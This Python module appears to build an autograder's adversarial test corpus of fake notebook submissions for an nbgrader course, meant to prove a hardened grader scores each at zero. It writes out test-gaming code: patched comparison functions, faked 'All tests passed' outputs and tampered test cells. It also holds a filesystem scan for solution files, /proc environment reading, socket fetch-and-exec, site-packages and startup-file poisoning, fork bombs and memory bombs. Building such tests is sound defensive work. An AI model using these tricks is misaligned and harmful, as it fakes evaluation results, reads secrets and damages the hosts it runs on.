"""The adversarial and faulty submissions of the grader's test corpus, one function per trick.

Each takes the released notebook and returns what a student wanting the points might hand in
(a notebook, or raw bytes for broken files). None solves the exercises honestly, so each must
score 0 — several would score full marks under plain ``nbgrader autograde``.
"""

from __future__ import annotations

import copy

import nbformat

WRONG = "def scale(x, a):\n    return x\n\ndef mean_square(x):\n    return 0.0\n\nclass Affine(torch.nn.Module):\n    def __init__(self, d):\n        super().__init__()\n    def forward(self, x):\n        return x\n"


def _gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def with_cells(release, before_tests: str = "", solutions: str | None = None, after: str = ""):
    """The release with code inserted: ``solutions`` replaces the first solution cell (the others
    keep their stubs), ``before_tests`` goes right before the first graded cell, ``after`` at the end."""
    nb = copy.deepcopy(release)
    cells = []
    first_test = True
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and first_test and before_tests:
            cells.append(nbformat.v4.new_code_cell(before_tests))
            first_test = False
        if meta.get("solution") and solutions is not None:
            cell.source = solutions
            solutions = None
        cells.append(cell)
    if after:
        cells.append(nbformat.v4.new_code_cell(after))
    nb.cells = cells
    for i, c in enumerate(nb.cells):
        c.id = f"c{i}"
    return nb


def _graded(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def _fake_outputs(nb):
    for c in _graded(nb):
        c.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✔ All tests passed\n")]
        c.execution_count = 1
    return nb


# --------------------------------------------------------------------------- monkeypatching
PATCH_COMPARISONS = (
    WRONG
    + """
import math, numpy, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
"""
)
PATCH_CHECKS = (
    WRONG
    + """
import mesakit.checks.core as core_module
core_module.expect_close = lambda *a, **k: None
core_module.is_close = lambda *a, **k: True
core_module.call = lambda fn, *a, **k: None
core.expect_close = lambda *a, **k: None
"""
)
PATCH_SYS_MODULES = (
    WRONG
    + """
import sys, types
class Yes:
    def __getattr__(self, name):
        return lambda *a, **k: True
for name in ("torch", "numpy", "numpy.testing", "math", "mesakit.checks.core"):
    sys.modules[name] = Yes()
"""
)
PATCH_BUILTINS = (
    WRONG
    + """
import builtins
class NeverRaised(Exception):
    pass
builtins.AssertionError = NeverRaised
builtins.NameError = NeverRaised
_real_import = builtins.__import__
builtins.isinstance = lambda *a: True
"""
)
CUSTOM_EXC = (
    WRONG
    + """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
ip.showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
import sys
sys.excepthook = lambda *a: None
"""
)
TENSOR_SUBCLASS = """
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.allclose, torch.isclose):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
    def __eq__(self, other):
        return True
def scale(x, a):
    return torch.zeros_like(x).as_subclass(Liar)
class FakeFloat(float):
    def __eq__(self, other):
        return True
def mean_square(x):
    return FakeFloat(-1.0)
"""
PATCH_AT_CALL_TIME = """
import torch, numpy, math
def scale(x, a):
    torch.allclose = lambda *args, **kw: True
    numpy.testing.assert_allclose = lambda *args, **kw: None
    math.isclose = lambda *args, **kw: True
    return x
def mean_square(x):
    import sys
    frame = sys._getframe(1)
    frame.f_globals["math"] = type("M", (), {"isclose": staticmethod(lambda *a, **k: True)})
    return 0.0
"""
SHADOW_NAMES = (
    WRONG
    + """
class _Yes:
    def __getattr__(self, name):
        return lambda *a, **k: True
torch = _Yes(); np = _Yes(); math = _Yes(); core = _Yes()
X_FIXED = None
"""
)
TRACE_AND_GC = (
    WRONG
    + """
import gc, sys
from mesakit.checks import core as c
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") in ("expect_close", "assert_allclose", "allclose"):
        try:
            obj.__code__ = (lambda *a, **k: None).__code__
        except Exception:
            pass
sys.settrace(lambda *a: None)
"""
)
PATCH_WORKER = (
    WRONG
    + """
import mesakit.grade.wire as w, mesakit.grade.worker as wk
_enc = w.encode
def always_true(value, keep):
    return _enc(True, keep)
w.encode = always_true
wk.wire.encode = always_true
"""
)

# ------------------------------------------------------------------------------ ending early
SYS_EXIT = "import sys\nsys.exit(0)"
OS_EXIT = "import os\nos._exit(0)"
KILL_KERNEL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"
EXIT_WHEN_CALLED = """
import os, sys
def scale(x, a):
    os._exit(0)
def mean_square(x):
    raise SystemExit(0)
class Affine:
    def __init__(self, d):
        raise KeyboardInterrupt
"""

# ------------------------------------------------------------------------ instructor's material
READ_SOLUTIONS = r"""
import glob, json, os, re
from pathlib import Path
import mesakit
found = []
roots = [Path(mesakit.__file__).resolve().parents[1], Path.cwd(), Path("/"), Path.home(), Path("/work"), Path("/tmp")]
for root in roots:
    for pattern in ("solutions/*/*.ipynb", "tests/grading/course/solutions/*/*.ipynb", "*/solutions/*/*.ipynb",
                    "tests/grading/submissions/honest/*/*.ipynb", "../*/*/*.ipynb", "gradebook.db", "*/gradebook.db"):
        try:
            found += [p for p in root.glob(pattern)][:5]
        except Exception:
            pass
for path in found:
    try:
        nb = json.loads(Path(path).read_text())
    except Exception:
        continue
    for cell in nb.get("cells", []):
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec(src)
"""
READ_PROC = r"""
import os, re
secrets = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("cmdline", "environ"):
            try:
                secrets.append(open(f"/proc/{pid}/{part}", "rb").read())
            except Exception:
                pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                try:
                    secrets.append(os.readlink(f"/proc/{pid}/fd/{fd}").encode())
                except Exception:
                    pass
        except Exception:
            pass
text = b" ".join(secrets)
assert b"HIDDEN" in text, "no hidden tests visible"
def scale(x, a):
    return a * x
"""
NETWORK = """
import socket
s = socket.create_connection(("127.0.0.1", 8888), timeout=1)
exec(s.recv(100000).decode())
"""

# ------------------------------------------------------------------------------------ poisoning
POISON = (
    r"""
import os, sysconfig
from pathlib import Path
import mesakit, mesakit.checks.core as c
payload = "\nimport torch as _t\n_t.allclose = lambda *a, **k: True\nexpect_close = lambda *a, **k: None\n"
targets = [c.__file__, os.path.join(os.path.dirname(mesakit.__file__), "__init__.py"),
           os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"),
           os.path.join(sysconfig.get_paths()["purelib"], "torch", "__init__.py"),
           os.path.join(sysconfig.get_paths()["purelib"], "zz_poison.pth"),
           str(Path(mesakit.__file__).resolve().parents[1] / "solutions" / "poison.txt"),
           "/tmp/poison.py", os.path.expanduser("~/.ipython/profile_default/startup/00-poison.py")]
for t in targets:
    try:
        os.makedirs(os.path.dirname(t), exist_ok=True)
        with open(t, "a") as f:
            f.write(payload)
    except Exception:
        pass
"""
    + WRONG
)

# --------------------------------------------------------------------------------------- faults
INFINITE_LOOP = "while True:\n    pass"
IGNORE_SIGINT = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass"
MEMORY_BOMB = "import torch\nblocks = []\nwhile True:\n    blocks.append(torch.ones(2**27))  # 512 MB each, touched"
HUGE_OUTPUT = "import sys\nfor _ in range(20000):\n    print('x' * 10000)\n    sys.stderr.write('y' * 10000)"
SEGFAULT = "import ctypes\nctypes.string_at(0)"
FORK_BOMB = "import os, time\nfor _ in range(10000):\n    try:\n        os.fork()\n    except OSError:\n        break\ntime.sleep(1000)"
SLOW_WHEN_CALLED = WRONG.replace(
    "def scale(x, a):\n    return x", "def scale(x, a):\n    import time\n    time.sleep(10**6)"
)


def _tamper_edit(release):
    nb = _fake_outputs(with_cells(release, solutions=WRONG))
    for c in _graded(nb):
        c.source = "print('All tests passed')"
        c.metadata["nbgrader"]["points"] = 100.0
    return nb


def _tamper_delete(release):
    nb = with_cells(release, solutions=WRONG)
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    return nb


def _tamper_strip(release):
    nb = _fake_outputs(with_cells(release, solutions=WRONG))
    for c in nb.cells:
        c.metadata = {}
    return nb


def _tamper_markdown(release):
    nb = with_cells(release, solutions=WRONG)
    nb.cells = [
        nbformat.v4.new_markdown_cell(c.source, metadata=c.metadata)
        if c.metadata.get("nbgrader", {}).get("grade")
        else c
        for c in nb.cells
    ]
    return nb


def _tamper_duplicate(release):
    nb = with_cells(release, solutions=WRONG)
    fake = []
    for c in _graded(nb):
        d = copy.deepcopy(c)
        d.source = "pass"
        fake.append(d)
    nb.cells = fake + nb.cells
    for i, c in enumerate(nb.cells):
        c.id = f"c{i}"
    return nb


def _tamper_bonus(release):
    nb = with_cells(release, solutions=WRONG)
    bonus = nbformat.v4.new_code_cell("pass")
    bonus.metadata = {
        "nbgrader": {
            "grade": True,
            "grade_id": "bonus",
            "locked": True,
            "points": 50.0,
            "schema_version": 3,
            "solution": False,
            "task": False,
        }
    }
    nb.cells.append(bonus)
    return nb


def _tamper_points_only(release):
    nb = _fake_outputs(with_cells(release, solutions=WRONG))
    for c in _graded(nb):
        c.metadata["nbgrader"]["points"] = 1000.0
    return nb


def _v3(release):
    nb = nbformat.v4.downgrade(copy.deepcopy(release)) if hasattr(nbformat.v4, "downgrade") else None
    from nbformat.v4 import convert

    return (
        nbformat.writes(convert.downgrade(copy.deepcopy(release)), version=3)
        if nb is None
        else nbformat.writes(nb, version=3)
    )


def _with_files(release):
    """Ships modules beside the notebook that shadow numpy/math/torch in the student's folder."""
    return with_cells(release, solutions=WRONG)


CHEATS = {
    "patch_comparisons": lambda r: _fake_outputs(with_cells(r, solutions=PATCH_COMPARISONS)),
    "patch_checks": lambda r: with_cells(r, solutions=PATCH_CHECKS),
    "patch_sys_modules": lambda r: with_cells(r, solutions=PATCH_SYS_MODULES),
    "patch_builtins": lambda r: with_cells(r, solutions=PATCH_BUILTINS),
    "custom_exc": lambda r: with_cells(r, solutions=CUSTOM_EXC),
    "tensor_subclass": lambda r: with_cells(r, solutions=TENSOR_SUBCLASS),
    "patch_at_call_time": lambda r: with_cells(r, solutions=PATCH_AT_CALL_TIME),
    "shadow_names": lambda r: with_cells(r, before_tests=SHADOW_NAMES),
    "trace_and_gc": lambda r: with_cells(r, solutions=TRACE_AND_GC),
    "patch_worker": lambda r: with_cells(r, solutions=PATCH_WORKER),
    "sys_exit": lambda r: _fake_outputs(with_cells(r, before_tests=SYS_EXIT)),
    "os_exit": lambda r: _fake_outputs(with_cells(r, before_tests=OS_EXIT)),
    "kill_kernel": lambda r: _fake_outputs(with_cells(r, before_tests=KILL_KERNEL)),
    "exit_when_called": lambda r: with_cells(r, solutions=EXIT_WHEN_CALLED),
    "read_solutions": lambda r: with_cells(r, solutions=READ_SOLUTIONS),
    "read_proc": lambda r: with_cells(r, before_tests=READ_PROC),
    "network": lambda r: with_cells(r, solutions=NETWORK),
    "poison": lambda r: with_cells(r, solutions=POISON),
    "tamper_edit_tests": _tamper_edit,
    "tamper_delete_tests": _tamper_delete,
    "tamper_strip_metadata": _tamper_strip,
    "tamper_markdown_tests": _tamper_markdown,
    "tamper_duplicate_ids": _tamper_duplicate,
    "tamper_bonus_cell": _tamper_bonus,
    "tamper_points": _tamper_points_only,
    "print_all_passed": lambda r: _fake_outputs(with_cells(r, after="print('All tests passed!  Score: 6/6')")),
    "infinite_loop": lambda r: with_cells(r, solutions=INFINITE_LOOP),
    "ignore_sigint": lambda r: with_cells(r, solutions=IGNORE_SIGINT),
    "memory_bomb": lambda r: with_cells(r, solutions=MEMORY_BOMB),
    "huge_output": lambda r: with_cells(r, solutions=HUGE_OUTPUT),
    "segfault": lambda r: _fake_outputs(with_cells(r, before_tests=SEGFAULT)),
    "fork_bomb": lambda r: with_cells(r, solutions=FORK_BOMB),
    "slow_when_called": lambda r: with_cells(r, solutions=SLOW_WHEN_CALLED),
    "shadow_modules": _with_files,
    "corrupt_json": lambda r: b'{"cells": [ {"cell_type": "code", "source": "oops"',
    "empty_file": lambda r: b"",
    "binary_garbage": lambda r: bytes(range(256)) * 10,
    "json_list": lambda r: b"[1, 2, 3]",
    "nbformat_3": _v3,
    "nbformat_5": lambda r: nbformat.writes(r).replace('"nbformat": 4', '"nbformat": 5'),
    "bad_cell_type": lambda r: nbformat.writes(r).replace('"cell_type": "code"', '"cell_type": "evil"', 1),
}

# Extra files shipped beside the notebook, by submission.
FILES = {
    "shadow_modules": {
        "numpy.py": "def __getattr__(name):\n    return lambda *a, **k: True\n",
        "math.py": "isclose = lambda *a, **k: True\n",
        "sitecustomize.py": "import torch\ntorch.allclose = lambda *a, **k: True\n",
    },
}
